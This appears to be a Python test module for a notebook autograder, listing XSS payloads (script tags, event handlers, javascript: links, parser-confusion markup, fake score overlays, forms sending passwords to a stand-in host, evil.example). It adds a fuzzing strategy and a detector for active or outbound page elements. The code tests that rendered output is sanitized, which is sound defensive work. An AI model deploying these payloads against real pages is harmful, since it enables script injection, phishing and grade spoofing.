"""Texts that try to be more than text in a browser, and a reader that says what a page makes a browser do."""

from __future__ import annotations

from collections import Counter
from dataclasses import replace

from bleach._vendor import html5lib  # the parser that browsers have in common, in the copy that nbconvert installs
from hypothesis import strategies as st

from autograder.exercises import EXERCISES, Verdict
from autograder.grading.result import ExerciseResult
from autograder.submission.cell import Cell

EVIL = "http://evil.example"
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<form action='{EVIL}'><input name=password></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<style>@import '{EVIL}/x.css'; body{{display:none}}</style>",
    "<div style='position:fixed;inset:0'>10 of 10 points</div>",
    "<p class='score' id='x'>10 of 10</p>",
    f"<base href='{EVIL}/'>",
    f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<video src='{EVIL}/x' autoplay></video><audio src=x></audio>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    f"<img src='{EVIL}/x.png'><img srcset='{EVIL}/x.png 1x'>",
    "</pre></div></main></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    f"![x]({EVIL}/x.png) [x](javascript:alert(1)) <{EVIL}>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[31m<script>\x1b[0m",
    "{{ 7 * 7 }} {% raw %}",
    # what a second reading of Markdown would make of a text that a first one has made harmless
    f"<b>x</b> words\n\n```\na\n\n![x]({EVIL}/x.png)\n\n[go]({EVIL})\n```",
    "<b>q</b>\n\n```\na\n\n<script>alert(1)</script>\n\n&lt;img src=x onerror=alert(1)&gt;\n```",
    "[x](JaVaScript:alert(1)) [y](\x01javascript:alert(1)) [z](java\tscript:alert(1)) [w]( javascript:alert(1))",
    "[x](javascript&colon;alert%281%29) [y](java&#115;cript:alert(1)) [z](&#106avascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    f"[x][1] ![x][1] [1]\n\n[1]: {EVIL}/x.png 'title'",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:msgbox)",
    "![x](attachment:x.svg) ![x](attachment:none)",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "~~~mermaid\n</pre><img src=x onerror=alert(1)>\n~~~",
    "$\\href{javascript:alert(1)}{x}$ $$\\style{background:url(" + EVIL + ")}{x}$$ \\[\\class{y}{z}\\]",
    "$a\\<img src=x onerror=alert(1)>$ $x\\$<img src=x onerror=alert(1)>$",
    "\\begin{equation}<img src=x onerror=alert(1)>\\end{equation}",
    "\\\\[ <img src=x onerror=alert(1)> \\\\] \\\\( \\require{html} \\\\)",
    "# <x onclick=alert(1)>\n## [x](javascript:alert(1))\n\n<h1 id=clip_check>x</h1>",
    "|a|b|\n|-|-|\n|[x](javascript:alert(1))|<script>alert(1)</script>|",
    "term\n: [x](javascript:alert(1))\n\n- [ ] <script>alert(1)</script>\n- [x] y",
    "<\u00e9 onclick=alert(1)> < img src=x onerror=alert(1)> <x/onclick=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]> <?php alert(1) ?>",
    f"{EVIL}/x.png www.evil.example javascript:alert(1)",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<textarea></textarea><xmp><title><plaintext>",
    "%%html\n<script>alert(1)</script>",
    "%%javascript\nalert(1)",
    "</script><script>alert(1)</script>",
]
_SIGNS = r"""
< > </ /> <!-- --> <![CDATA[ ]]> <? &lt; &#60; &colon; &Tab; & ; # <script> </script> <pre> </pre> <b> </b> <img <a <svg
x src= href= onerror=alert(1) javascript:alert(1) vbscript:x data:text/html, http://evil.example //evil.example = " ' `
attachment:a [ ] ( ) ]( ]: ![ [x]: ``` ```mermaid ~~~ $ $$ \ \\[ \\] \( \) \begin{a} \end{a} \href{ } { | * _ ~ 1. : ---
"""
_SPACES = [" ", "- ", "> ", "\t", "\n", "\n\n", "\n    ", "\r", "\u2028", "\x00", "\x1b[", "\x1b]8;;", "\xa0", "\ufeff"]
_PIECES = [*_SIGNS.split(), *_SPACES]
#: Strings of pieces of HTML, Markdown and TeX in any order, and of whole attacks.
TEXTS = st.lists(st.sampled_from(_PIECES) | st.sampled_from(ATTACKS) | st.text(max_size=3), max_size=14).map("".join)

_RUNNING = {"script", "iframe", "object", "embed", "form", "base", "link", "style", "math", "video", "audio"}
_PICTURE = "data:image/png;base64,"
_INERT = {"div", "pre", "span", "p", "br", "code"}


def dangers(page: str, place: str | None = None) -> list[str]:
    """Return what of a page, or of the element with this id in it, runs, loads, or leads out of the page by a click."""
    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    if place is not None:
        tree = next(element for element in tree.iter() if element.get("id") == place)
    found = [str(element.tag) for element in tree.iter() if place and element.tag in _RUNNING]
    for element in tree.iter():
        for name, value in element.attrib.items():
            address = name in ("src", "href", "action", "data", "srcset") and not value.startswith(("#", _PICTURE))
            if str(name).startswith("on") or (address and ":" in value):
                found.append(f"{element.tag} {name}={value}")
    return found


def active(page: str) -> Counter[tuple[str, frozenset]]:
    """Return every element of a page that is more than a box of text, with its attributes, as a browser finds them."""
    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    found: Counter[tuple[str, frozenset]] = Counter()
    for element in tree.iter():
        attributes = frozenset((str(name), value) for name, value in element.attrib.items())
        if element.tag not in _INERT or any(name != "class" for name, _ in attributes):
            found[str(element.tag), attributes] += 1
    return found


def every_place(text: str) -> list[Cell]:
    """Return cells with this text wherever a student, or a process of a student's that lies, can put one."""
    media = ("text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml", "image/png", "image/jpeg")
    media += ("application/javascript", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid")
    outputs: list[dict] = [
        {"output_type": "stream", "name": text, "text": [text]},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        {"output_type": "update_display_data", "data": dict.fromkeys(media, text)},
        {"output_type": text, "data": {text: text}},
    ]
    metadata = {text: text, "text/html": {"isolated": True}, "filenames": {"image/png": text}, "width": text}
    outputs.append({"output_type": "execute_result", "data": dict.fromkeys(media, text), "metadata": metadata})
    outputs += [{"output_type": "display_data", "data": {name: text}, "metadata": metadata} for name in media]
    cells = [Cell("added", kind, text, f"added-{kind}") for kind in ("markdown", "raw")]
    return [*cells, Cell("added", "code", text, "added-code", outputs), Cell("given", "code", text, "given")]


def result_with(*texts: str) -> ExerciseResult:
    """Return a wrong `clip` that says these texts in every cell, output, sentence and note."""
    checks = EXERCISES["clip"].checks
    said = " ".join(texts)
    verdicts = [
        Verdict(check.name, False, check.points, f"It raised: {said}", "raised", f"line 2: {said}") for check in checks
    ]
    cells = [cell for text in texts for cell in every_place(text)]
    cells = [replace(cell, id=f"{cell.id}-{number}") for number, cell in enumerate(cells)]
    cells += [Cell("answer", "code", said, "clip"), Cell("test", "code", "check(clip)", "clip_check")]
    return ExerciseResult(
        "clip", EXERCISES["clip"].points, verdicts, cells=cells, notes=list(texts), reason=f"This: {said}"
    )
